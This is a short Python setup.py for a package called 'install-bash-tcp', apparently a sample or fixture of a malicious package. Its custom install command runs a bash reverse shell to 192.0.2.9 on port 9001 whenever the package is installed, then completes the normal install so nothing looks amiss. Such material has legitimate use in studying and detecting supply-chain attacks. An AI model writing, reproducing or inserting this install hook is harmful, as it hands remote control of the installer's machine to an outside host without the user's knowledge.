from setuptools import setup
from setuptools.command.install import install
import os


class Custom(install):
    def run(self):
        os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.9/9001 0>&1'")

        install.run(self)


setup(name="install-bash-tcp", version="1.0.0", packages=["install_bash_tcp"], cmdclass={"install": Custom})
